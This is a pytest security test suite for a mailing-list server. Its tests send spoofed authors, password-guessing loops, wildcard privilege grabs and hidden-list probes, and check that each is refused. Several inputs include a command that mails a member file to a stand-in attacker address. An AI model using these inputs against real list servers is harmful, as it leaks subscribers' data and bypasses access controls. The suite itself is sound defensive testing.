"""Who the author is, and what proves it: each test is an attack sent through the front door.

The From line of the text (issue 9, hole 6), password guessing (hole 9), a wildcard rule
that reaches a PostMaster or the SuperUser (hole 10), hidden lists found by their answers
(hole 12), and rosters shown to strangers.
"""

import csv
import hashlib
import os

import pytest

from conftest import mail
from tristero.model import access
from tristero.policy import rights

INI = """\
[Globals]
Domain = example.org
SuperUser = boss@example.org
MaxRecipients = 50
MaxStrangerCommands = 100
MaxStrangerReplies = 100

[LIST news]
MemberFile = 00000001
Type = Open
Owner = editor@example.org

[LIST chat]
MemberFile = 00000002
Type = Open
Owner = owner@example.org

[LIST secret]
MemberFile = 00000003
Type = Hidden
Owner = owner@example.org

[LIST staff]
MemberFile = 00000004
Type = Closed
Owner = owner@example.org

[LIST notices]
MemberFile = 00000005
Type = Broadcast
Owner = owner@example.org
"""

MEMBERS = {1: ["carol@example.com", "boss@example.org"], 2: ["owner@example.org"],
           3: ["insider@example.net"], 4: ["boss@example.org"], 5: []}


@pytest.fixture
def isite(site):
    site.write_ini(INI)
    os.makedirs(site.path("lists"))
    for n, addresses in MEMBERS.items():
        write_members(site, n, addresses)
    return site


def write_members(site, number, addresses):
    with open(site.path("lists", "%08d.ini" % number), "w") as f:
        f.write("[Members]\n" + "".join("%s =\n" % a for a in addresses))


def members_of(site, number):
    from tristero.model.members import load
    return [a for a, _ in load("%08d" % number, site.path("lists", "%08d.ini" % number)).items()]


def replies(site, to):
    return "\n".join(m.get_content() for m in site.messages_to(to) if m["Subject"].startswith("Re:"))


def notices(site, word):
    return [m for m in site.messages_to("boss@example.org") if word in m["Subject"]]


def security(site):
    try:
        with open(site.path("logs", "security.at")) as f:
            return f.read()
    except FileNotFoundError:
        return ""


def clear_outbound(site):
    out = site.path("spool", "out", "new")
    for name in site.listdir("spool", "out", "new"):
        os.remove(os.path.join(out, name))


def everyone_written_to(site):
    return {r for b in site.outbound() for r in b.recipients}


# --- hole 6: the From line of the text -----------------------------------------------------

# The attack of the review: the From field holds an address the parser refuses, and the
# text names the SuperUser, whose commands need no password on a site that set none.
TRICK = ("From: boss@example.org\n\nconfig sendfile lists/00000001.ini attacker@evil.example\n"
         "subscribe news victim@example.com\nunsubscribe news carol@example.com\n")


@pytest.mark.parametrize("header", [b'"john smith"@evil.example', "j\u00f6hn@evil.example".encode(),
                                    b"=?utf-8?q?j=C3=B6hn?=@evil.example", b"<john smith@evil.example>"],
                         ids=["quoted local part", "non-ASCII", "encoded local part", "blank in address"])
def test_a_from_field_with_an_unusable_address_does_not_let_the_text_name_the_author(isite, header):
    name = isite.drop(b"From: " + header + b"\nTo: tristero@example.org\nSubject: files\n"
                      b"Message-ID: <trick@evil.example>\n\n" + TRICK.encode())
    isite.run()
    # Set aside whole, answered to nobody: no address here may be answered or believed.
    assert isite.listdir("spool", "failed", "new") == [name]
    assert everyone_written_to(isite) == {"boss@example.org"}
    notice = notices(isite, "spool/failed")[0].get_content()
    assert "the From field holds an address this site cannot use" in notice
    assert members_of(isite, 1) == ["carol@example.com", "boss@example.org"]


def test_an_address_inside_an_encoded_word_is_not_the_author(isite):
    name = isite.drop(b"From: =?utf-8?q?boss=40example.org?=\nTo: tristero@example.org\nSubject: x\n\n"
                      b"config sendfile lists/00000001.ini attacker@evil.example\n")
    isite.run()
    assert isite.listdir("spool", "failed", "new") == [name]
    assert everyone_written_to(isite) == {"boss@example.org"}
    assert "is not written in it as such" in notices(isite, "spool/failed")[0].get_content()


def gateway(frm_line, body, to="tristero@example.org", subject="commands", headers=""):
    """Mail whose From field holds no address at all (the manual's gateway case)."""
    digest = hashlib.sha256((frm_line + to + subject + body).encode()).hexdigest()[:16]
    return ("From: Smith, John at PO1\nTo: %s\nSubject: %s\nMessage-ID: <%s@gw.example>\n%s\n"
            "From: %s\n\n%s" % (to, subject, digest, headers, frm_line, body))


def test_an_author_read_from_the_text_is_never_privileged(isite):
    """No From address at all: the text's From line names the SuperUser; none of it is believed."""
    isite.drop(gateway("boss@example.org", "config sendfile lists/00000001.ini attacker@evil.example\n"
                                           "create evil A list of mine\n"
                                           "add chat victim@example.com\n"
                                           "grant Barred to carol@example.com for news\n"))
    isite.run()
    text = replies(isite, "boss@example.org")
    assert text.count("REFUSED: your address was read from a From: line in the text") == 4
    assert "attacker@evil.example" not in everyone_written_to(isite)
    assert not os.path.exists(isite.path("access.ini"))
    assert members_of(isite, 2) == ["owner@example.org"]
    with open(isite.path("tristero.ini")) as f:
        assert "evil" not in f.read()
    assert 'boss@example.org,,CONFIG SENDFILE,"refused: your address was read' in security(isite)


def test_an_author_read_from_the_text_acts_on_no_membership_its_own_included(isite):
    isite.drop(gateway("carol@example.com", "subscribe chat\nsubscribe chat victim@example.com\n"
                                            "unsubscribe news\nset news nomail\nset * nomail\n"
                                            "which\nunsubscribe *\n"))
    isite.run()
    text = replies(isite, "carol@example.com")
    assert text.count("REFUSED: your address was read from a From: line in the text") == 7
    assert "OK" not in text.replace("0 ok", "")
    assert members_of(isite, 1) == ["carol@example.com", "boss@example.org"]
    assert members_of(isite, 2) == ["owner@example.org"]
    with open(isite.path("lists", "00000001.ini")) as f:
        assert "NOMAIL" not in f.read()
    assert everyone_written_to(isite) == {"carol@example.com"}      # no confirmation, no welcome


def test_an_author_read_from_the_text_posts_where_strangers_may(isite):
    """The gateway case the manual means: posts reach lists open to non-members, as a stranger's."""
    isite.drop(gateway("boss@example.org", "Hello from the gateway\n", to="news@example.org", subject="open"))
    # boss@ is a member of the Closed list staff, and the SuperUser: neither is believed.
    isite.drop(gateway("boss@example.org", "Hello staff\n", to="staff@example.org", subject="closed"))
    isite.drop(gateway("boss@example.org", "Listen\n", to="notices@example.org", subject="broadcast"))
    isite.run()
    posted = [b for b in isite.outbound() if b"X-Loop: news@example.org" in b.data]
    assert len(posted) == 1 and b"Subject: open" in posted[0].data
    assert not [b for b in isite.outbound() if b"X-Loop: staff@example.org" in b.data
                or b"X-Loop: notices@example.org" in b.data]
    refusals = [m["Subject"] for m in isite.messages_to("boss@example.org")]
    assert "Not posted: closed" in refusals and "Not posted: broadcast" in refusals


def test_an_author_read_from_the_text_is_never_approved(isite):
    isite.drop(mail(frm="boss@example.org", body="setpass Approve99 for owner@example.org"))
    isite.run()
    clear_outbound(isite)
    isite.drop(gateway("owner@example.org", "Listen\n", to="notices@example.org", subject="approved",
                       headers="Approved: Approve99\n"))
    isite.run()
    assert not [b for b in isite.outbound() if b"X-Loop: notices@example.org" in b.data]


def test_prescan_spam_leaves_an_author_read_from_the_text_on_its_lists(isite):
    with open(isite.path("tristero.ini"), "a") as f:
        f.write("\n[Security]\nPreScanMode = 3\n\n[PreScan Strings]\nSPAM,make money fast\n")
    isite.drop(gateway("carol@example.com", "make money fast\n", to="news@example.org", subject="spam"))
    isite.run()
    assert "carol@example.com" in members_of(isite, 1)


# --- hole 9: password guessing ------------------------------------------------------------

def with_password(site, user="owner@example.org", password="Correct123"):
    site.drop(mail(frm="boss@example.org", subject="setpass", body="setpass %s for %s" % (password, user)))
    site.run(now="2026-11-21T09:00:00")
    clear_outbound(site)


def guess(site, n, frm="owner@example.org"):
    site.drop(mail(frm=frm, subject="guess %d" % n, body="approve Guess%04d add chat x%d@example.com\n" % (n, n)))


def lockouts(site):
    with open(site.path("spool", "lockouts.csv")) as f:
        return {row[0]: row[1:] for row in csv.reader(f)}


def test_the_sixth_wrong_password_within_an_hour_locks_it_for_an_hour(isite):
    with_password(isite)
    for n in range(5):
        guess(isite, n)
    isite.run(now="2026-11-21T10:00:00")
    assert notices(isite, "is locked") == []
    assert len(lockouts(isite)["owner@example.org"][0].split()) == 5
    # The lock survives the run; the sixth failure, ten minutes on, sets it.
    guess(isite, 5)
    isite.run(now="2026-11-21T10:10:00")
    told = notices(isite, "is locked")
    assert len(told) == 1 and "owner@example.org" in told[0].get_content()
    assert "locked until 2026-11-21 11:10:00" in security(isite)
    assert lockouts(isite)["owner@example.org"][1].startswith("2026-11-21T11:10:00")
    clear_outbound(isite)
    # During the lock the right password is refused without being tried, and the
    # SuperUser, told once, is not told again.
    isite.drop(mail(frm="owner@example.org", subject="right", body="approve Correct123 add chat y@example.com\n"
                                                                   "password Correct123\nadd chat z@example.com\n"))
    guess(isite, 6)
    isite.run(now="2026-11-21T10:20:00")
    text = replies(isite, "owner@example.org")
    assert text.count("REFUSED: the password of owner@example.org is locked until 2026-11-21 11:10:00") == 4
    assert members_of(isite, 2) == ["owner@example.org"]
    assert notices(isite, "is locked") == [] and notices(isite, "refused privileged") == []
    # An hour after the lock began it lifts.
    clear_outbound(isite)
    isite.drop(mail(frm="owner@example.org", subject="later", body="approve Correct123 add chat y@example.com\n"))
    isite.run(now="2026-11-21T11:10:01")
    assert "OK: y@example.com added to chat" in replies(isite, "owner@example.org")


def test_wrong_passwords_spread_over_more_than_an_hour_do_not_lock(isite):
    with_password(isite)
    for n in range(5):
        guess(isite, n)
    isite.run(now="2026-11-21T10:00:00")
    guess(isite, 5)
    isite.run(now="2026-11-21T11:00:01")
    assert notices(isite, "is locked") == []
    isite.drop(mail(frm="owner@example.org", subject="right", body="approve Correct123 add chat y@example.com\n"))
    isite.run(now="2026-11-21T11:00:02")
    assert "y@example.com" in members_of(isite, 2)


def test_after_a_wrong_password_the_rest_of_the_message_is_not_tried(isite):
    """A hundred guesses in one message count as one, and the right one among them does nothing."""
    with_password(isite)
    body = "".join("approve Guess%04d add chat x%d@example.com\n" % (n, n) for n in range(99))
    body += "approve Correct123 add chat right@example.com\npassword Correct123\nadd chat too@example.com\n" \
            "subscribe news\n"
    isite.write_ini(INI.replace("MaxRecipients = 50", "MaxRecipients = 50\nMaxCommands = 200"))
    isite.drop(mail(frm="owner@example.org", body=body))
    isite.run(now="2026-11-21T10:00:00")
    text = replies(isite, "owner@example.org")
    assert text.count("REFUSED: that is not your password") == 1
    assert text.count("REFUSED: not run: a wrong password was given earlier in this message") == 101
    assert "OK: owner@example.org is now a member of news" in text          # not privileged: runs
    assert members_of(isite, 2) == ["owner@example.org"]
    assert len(lockouts(isite)["owner@example.org"][0].split()) == 1


def test_a_wrong_approved_header_counts_as_a_wrong_password(isite):
    with_password(isite)
    for n in range(6):
        isite.drop(mail(frm="owner@example.org", to="notices@example.org", subject="post %d" % n,
                        headers="Approved: Guess%04d\n" % n))
    isite.run(now="2026-11-21T10:00:00")
    assert len(notices(isite, "is locked")) == 1
    clear_outbound(isite)
    isite.drop(mail(frm="owner@example.org", to="notices@example.org", subject="real",
                    headers="Approved: Correct123\n"))
    isite.run(now="2026-11-21T10:30:00")
    assert not [b for b in isite.outbound() if b"X-Loop: notices@example.org" in b.data]


def test_new_passwords_need_eight_characters_old_ones_still_work(isite):
    with open(isite.path("access.ini"), "w") as f:
        f.write('"owner@example.org","","","","%s",""\n' % rights.hash_password("abcd"))
    isite.drop(mail(frm="owner@example.org", body="password abcd\nsetpass abc1234\nadd chat x@example.com\n"))
    isite.drop(mail(frm="boss@example.org", body="setpass Short12 for editor@example.org"))
    isite.run()
    text = replies(isite, "owner@example.org")
    assert "OK: password accepted" in text
    assert "ERROR: a password is 8 to 64 letters and digits" in text
    assert "OK: x@example.com added to chat" in text
    assert "ERROR: a password is 8 to 64 letters and digits" in replies(isite, "boss@example.org")
    with open(isite.path("access.ini")) as f:
        assert "editor@example.org" not in f.read()


# --- hole 10: wildcards never reach upward -------------------------------------------------

def test_an_owner_cannot_bar_the_superuser_with_a_wildcard(isite):
    isite.drop(mail(frm="owner@example.org", body="grant Barred to *@example.org for chat\n"
                                                  "revoke C from b*@example.org for chat\n"
                                                  "grant CDGI-MO-R-UX to * for chat\n"))
    isite.run()
    text = replies(isite, "owner@example.org")
    assert text.count("REFUSED: only the SuperUser takes rights from boss@example.org") == 3
    assert not os.path.exists(isite.path("access.ini"))
    # The SuperUser's own wildcard rule works, and the SuperUser keeps every right.
    isite.drop(mail(frm="boss@example.org", subject="mine", body="grant Barred to *@example.org for chat"))
    isite.run()
    with open(isite.path("access.ini")) as f:
        assert '"*@example.org","Barred","chat"' in f.read()
    isite.drop(mail(frm="boss@example.org", subject="still", body="revoke Barred from *@example.org for chat"))
    isite.run()
    assert "OK: *@example.org no longer holds" in replies(isite, "boss@example.org")


def test_a_wildcard_covering_a_postmaster_of_access_ini_is_the_superusers_alone(isite):
    with open(isite.path("access.ini"), "w") as f:
        f.write('"pm@example.com","PostMaster","","","",""\n"*@staff.example.com","PostMaster","","","",""\n')
    isite.drop(mail(frm="owner@example.org", body="grant Barred to *@example.com for chat\n"     # covers pm@
                                                  "grant Barred to p*.com for chat\n"
                                                  "revoke W from admin* for chat\n"           # may be *@staff...
                                                  "grant Barred to *@example.net for chat\n"  # covers no one above
                                                  "grant W to * for chat\n"))                 # adds, lowers nobody
    isite.run()
    text = replies(isite, "owner@example.org")
    assert text.count("REFUSED: only the SuperUser takes rights from pm@example.com") == 2
    assert "REFUSED: only the SuperUser takes rights from *@staff.example.com, a PostMaster or the SuperUser, " \
           "whom admin* covers" in text
    assert "OK: *@example.net now holds Barred on chat" in text
    assert "OK: * now holds" in text
    with open(isite.path("access.ini")) as f:
        rules = f.read()
    assert "admin*" not in rules and "p*.com" not in rules and '"*@example.com"' not in rules


def test_an_owner_cannot_lift_a_mask_the_superuser_put_on_a_wildcard(isite):
    isite.drop(mail(frm="boss@example.org", body="revoke W from b* for chat"))
    isite.run()
    isite.drop(mail(frm="owner@example.org", body="grant W to b* for chat"))
    isite.run()
    assert "REFUSED: only the SuperUser gives back rights masked to boss@example.org" \
        in replies(isite, "owner@example.org")


@pytest.mark.parametrize("p, q, overlap", [
    ("*", "boss@example.org", True), ("*@*", "*@x.org", True),
    ("*@example.org", "boss@example.org", True), ("*@example.org", "boss@example.net", False),
    ("a@x.org", "A@X.org", True), ("a@x.org", "b@x.org", False),
    ("*@x.org", "admin*", True), ("admin*", "ad*", True), ("admin*", "bob*", False),
    ("*@x.org", "*.org", True), ("*@x.org", "*@y.org", False), ("a*@x.org", "ab*", True),
    ("ab*@x.org", "ac*", False), ("*z", "*@x.org", False)])
def test_patterns_overlap_unless_their_fixed_parts_forbid_it(p, q, overlap):
    assert access.patterns_overlap(p, q) == overlap
    assert access.patterns_overlap(q, p) == overlap


# --- hole 12: hidden lists -----------------------------------------------------------------

# Every command that takes a list name, as a stranger sends it.
LIST_COMMANDS = """\
info {0}
subscribe {0}
unsubscribe {0}
members {0}
review {0}
set {0} nomail
set {0} digest
set {0} reply list
rewind {0} 2
catchup {0}
index {0}
get {0} readme.txt
fetch {0} readme.txt
search {0} hello
put {0}
kill {0} readme.txt
announce {0}
add {0} a@example.com
remove {0} a@example.com
change a@example.com b@example.com {0}
grant W to a@example.com for {0}
revoke W from a@example.com for {0}
audit {0}
destroy {0}
bake for {0} to a@example.com
cd {0}
"""


def test_a_hidden_list_answers_a_stranger_as_a_list_that_does_not_exist(isite):
    os.makedirs(isite.path("archive", "00000003"))
    with open(isite.path("archive", "00000003", "readme.txt"), "w") as f:
        f.write("for insiders\n")
    isite.write_ini(INI.replace("MaxRecipients = 50", "MaxRecipients = 50\nMaxCommands = 200"))
    for name in ("secret", "sekret"):        # the Hidden list, and a name no list has
        isite.drop(mail(frm="stranger@example.net", subject="about " + name, body=LIST_COMMANDS.format(name)))
        isite.drop(mail(frm="stranger@example.net", to="%s@example.org" % name, subject="post " + name))
        isite.drop(mail(frm="stranger@example.net", to="%s-request@example.org" % name, subject="r " + name,
                        body="members\ninfo\n"))
        isite.drop(mail(frm="stranger@example.net", to="%s-owner@example.org" % name, subject="o " + name))
    isite.run()
    answers = {}
    for m in isite.messages_to("stranger@example.net"):
        name = "secret" if "secret" in m["Subject"] else "sekret"
        answers.setdefault(name, []).append((m["Subject"].replace(name, "NAME"),
                                             m.get_content().replace(name, "NAME")))
    assert len(answers["secret"]) == 4
    assert sorted(answers["secret"]) == sorted(answers["sekret"])
    assert "insider@example.net" not in str(answers) and "for insiders" not in str(answers)
    assert "there is no list called NAME" in str(answers)
    assert members_of(isite, 3) == ["insider@example.net"]
    assert not [m for m in isite.messages_to("owner@example.org")]          # nothing reached its owner


def test_a_hidden_list_answers_its_members_and_its_owner(isite):
    isite.drop(mail(frm="insider@example.net", body="info secret\nmembers secret\n"))
    isite.drop(mail(frm="owner@example.org", body="info secret\nadd secret new@example.com\n"))
    isite.run()
    assert "OK: 1 member(s) of secret" in replies(isite, "insider@example.net")
    assert "OK: new@example.com added to secret" in replies(isite, "owner@example.org")


# --- rosters --------------------------------------------------------------------------------

def test_rosters_are_shown_to_members_only_by_default(isite):
    with open(os.path.join(os.path.dirname(os.path.dirname(__file__)), "tristero.ini.example")) as f:
        assert "\nOpenReview = N\n" in f.read()
    isite.drop(mail(frm="harvester@example.net", body="members news\nreview news\nwho news\n"))
    isite.drop(mail(frm="carol@example.com", body="members news\n"))
    isite.run()
    text = replies(isite, "harvester@example.net")
    assert text.count("REFUSED: news is an Open list: members only") == 3
    assert "carol@example.com" not in text
    assert "OK: 2 member(s) of news" in replies(isite, "carol@example.com")


def test_open_review_restores_the_manuals_open_list_profile(isite):
    isite.write_ini(INI + "\n[Security]\nOpenReview = Y\n")
    isite.drop(mail(frm="anyone@example.net", body="members news\nmembers staff\n"))
    isite.run()
    text = replies(isite, "anyone@example.net")
    assert "OK: 2 member(s) of news" in text
    assert "REFUSED: staff is a Closed list: members only" in text


def test_lists_with_an_address_is_which_and_refused_to_an_author_read_from_the_text(isite):
    """LISTS address runs WHICH address: it is refused where WHICH is (before the
    registry it went round the check, LISTS not being a membership command)."""
    isite.drop(gateway("carol@example.com", "lists carol@example.com\n"))
    isite.run()
    text = replies(isite, "carol@example.com")
    assert "REFUSED: your address was read from a From: line in the text" in text
    assert "is in 1 list(s)" not in text and "OK" not in text.replace("0 ok", "")
    assert 'carol@example.com,,WHICH,refused: author read from the text' in security(isite)
